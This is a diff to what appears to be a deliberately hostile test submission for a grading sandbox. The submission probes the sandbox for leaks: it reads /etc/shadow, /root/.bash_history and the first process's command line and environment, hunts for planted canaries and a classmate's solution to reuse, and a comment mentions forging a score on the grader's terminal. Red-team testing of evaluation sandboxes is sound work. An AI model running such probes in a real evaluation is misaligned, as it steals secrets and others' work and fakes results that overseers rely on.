@@ -134,17 +134,19 @@ for path in _walk("/", "bpe.py", budget=400_000, seconds=40):
 """,
     # Every planted canary by its path, and root-only files the system has anyway.
     "root-only files, canaries and the host's secrets": """
-for path in PLANTED + ["/etc/shadow", "/root/.bash_history", "/proc/1/environ"]:
+for path in PLANTED + ["/etc/shadow", "/root/.bash_history"]:
     data = _read(path)
     if data:
         _report(path + " " + data[:120].decode("utf-8", "replace"))
         if b"def merge_pair" in data:
             _use(data)
-# The first process's command line is readable by design (in the sandbox it is bubblewrap's own, with the
-# cage's mounts): a leak only where it names what the cage must hide.
-data = _read("/proc/1/cmdline") or b""
-if b"canary" in data or b"solutions" in data or b"hidden" in data:
-    _report("/proc/1/cmdline " + data[:300].decode("utf-8", "replace"))
+# The first process of the cage's own pid namespace is the cage's (bubblewrap's, run by the worker's user when
+# there is no root): its command line and environment are readable by design, and a leak only where they
+# name what the cage must hide.
+for path in ("/proc/1/cmdline", "/proc/1/environ"):
+    data = _read(path) or b""
+    if any(secret in data for secret in (b"canary", b"solutions", b"hidden", b"SECRET", b"BPE_KIT")):
+        _report(path + " " + data[:300].decode("utf-8", "replace"))
 """,
     # Device nodes and the grader's terminal: open for writing, paint a fake score.
     "device nodes and the grader's terminal": """
@@ -199,9 +201,9 @@ for folder in (here, os.path.dirname(os.path.abspath(__file__)), "/tmp"):
 for top in sorted(tops):
     for name in ("bpe.py", "results.json", "roster.csv", "feedback.md"):
         for path in _walk(top, name, budget=20_000, seconds=3):
-            if os.path.dirname(os.path.abspath(path)) == os.path.dirname(os.path.abspath(__file__)):
-                continue  # this hand-in's own copy, which names what it looks for
             data = _read(path)
+            if data and b"found nothing " + b"to steal" in data:
+                continue  # this hand-in itself, wherever the cage shows it: it names what it looks for
             if data and (b"CANARY" in data or ("honest" + "-classmate").encode() in data):
                 _report(path + " " + data[:120].decode("utf-8", "replace"))
                 if name == "bpe.py":
